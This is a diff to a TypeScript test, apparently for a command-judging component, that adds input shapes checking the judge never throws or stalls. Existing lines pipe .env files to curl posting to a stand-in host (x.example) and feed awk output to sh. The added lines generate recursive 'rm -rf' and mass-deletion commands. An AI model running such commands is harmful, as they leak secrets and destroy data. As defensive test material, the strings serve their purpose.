@@ -192,6 +192,10 @@ test("judging never throws and never takes long, whatever the text", () => {
     (n: number) => `docker run ${"-v a:b ".repeat(n >> 2)}x rm ${"a ".repeat(n >> 1)}`,
     (n: number) => `cat ${".env ".repeat(n >> 2)}| tee ${"a ".repeat(n >> 2)}| curl -d @- x.example`,
     (n: number) => `{ ${"a; ".repeat(n >> 2)}} | { ${"cat; ".repeat(n >> 2)}} | curl -d @- x.example`,
+    // Long paths, and short words that become many or stand far down.
+    (n: number) => `rm -rf ${"/a".repeat(n << 2)}`,
+    (n: number) => "rm {1..1000}; ".repeat(n >> 1),
+    (n: number) => "[ -d abcdef ] && cd abcdef; rm -rf x; ".repeat(n >> 2),
     (n: number) => `awk '${'print "a" | "sh"; '.repeat(n >> 3)}${"/[".repeat(n >> 1)}'`,
   ];
   for (const shape of shapes) {
